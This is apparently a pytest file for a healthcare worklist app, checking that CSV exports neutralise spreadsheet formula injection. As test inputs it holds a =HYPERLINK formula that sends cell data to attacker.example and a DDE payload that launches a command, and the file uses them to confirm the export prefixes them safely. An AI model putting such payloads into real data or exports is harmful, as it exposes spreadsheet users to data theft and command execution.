"""CSV exports neutralise formula-leading cells (OWASP "CSV Injection"): a source value
such as an organisation code beginning =HYPERLINK(...) reaches the spreadsheet as text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from careweave.store.db import make_engine, session_factory, transaction
from careweave.store.models import Person
from careweave.web.pages.worklist import cell

Client = Callable[[str], tuple[TestClient, str]]
EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_leading_cell_is_prefixed(lead: str) -> None:
    assert cell(lead + "1+1") == "'" + lead + "1+1"


def test_plain_cells_are_unchanged() -> None:
    assert [cell(v) for v in ("W91000", "mild", None, "a=b", "")] == [
        "W91000",
        "mild",
        "",
        "a=b",
        "",
    ]


def test_the_worklist_csv_neutralises_source_values(client_for: Client, demo_db: str) -> None:
    c, _ = client_for("coordinator")
    plain = list(csv.DictReader(io.StringIO(c.get("/app/worklist.csv").text)))
    target = plain[0]["nhs_number"]
    engine = make_engine(demo_db)
    with transaction(session_factory(engine)) as s:
        p = s.execute(select(Person).where(Person.nhs_number == target)).scalar_one()
        p.segment = EVIL
        p.risk_explanation = ["@SUM(1+1)*cmd|' /C calc'!A0", "age"]
    engine.dispose()
    r = c.get("/app/worklist.csv")
    assert r.status_code == 200
    row = next(x for x in csv.DictReader(io.StringIO(r.text)) if x["nhs_number"] == target)
    assert row["segment"] == "'" + EVIL
    assert row["explanation"].startswith("'@SUM")
    for cells in csv.reader(io.StringIO(r.text)):
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells), cells
